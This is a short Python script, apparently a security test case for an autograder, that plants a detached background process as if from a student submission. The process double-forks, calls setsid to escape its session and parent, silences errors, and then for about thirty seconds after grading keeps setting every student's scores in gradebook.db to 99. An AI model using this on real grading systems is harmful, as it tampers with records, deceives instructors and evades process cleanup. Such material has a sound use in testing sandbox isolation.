# A process that left its session and its parent rewrites gradebook.db for the whole class after the grading.
# %% first
import subprocess
import sys

CODE = """
import os, sqlite3, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(60):
            time.sleep(0.5)
            with sqlite3.connect("file:@COURSE@/gradebook.db?mode=rw", uri=True, timeout=5) as gradebook:
                gradebook.execute("UPDATE grade SET manual_score = 99, auto_score = 99")
"""
subprocess.Popen([sys.executable, "-c", CODE, "planted_by_student"], stderr=subprocess.DEVNULL)
